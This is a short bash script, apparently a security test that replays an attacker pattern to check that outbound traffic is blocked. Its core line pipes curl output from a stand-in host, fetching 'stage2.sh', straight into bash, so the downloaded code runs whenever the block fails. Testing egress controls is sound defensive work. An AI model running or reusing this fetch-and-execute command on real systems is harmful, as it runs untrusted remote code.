#!/usr/bin/env bash
# Replays the known attacker pattern (section 2 of SKILL.md) to confirm egress is blocked.
# Security test: expected result is BLOCKED.
SAMPLE_HOST=198.51.100.14
SAMPLE_PATH=stage2.sh
if curl -s --max-time 5 "http://${SAMPLE_HOST}/${SAMPLE_PATH}" | bash; then
  echo "ALLOWED"
else
  echo "BLOCKED"
fi
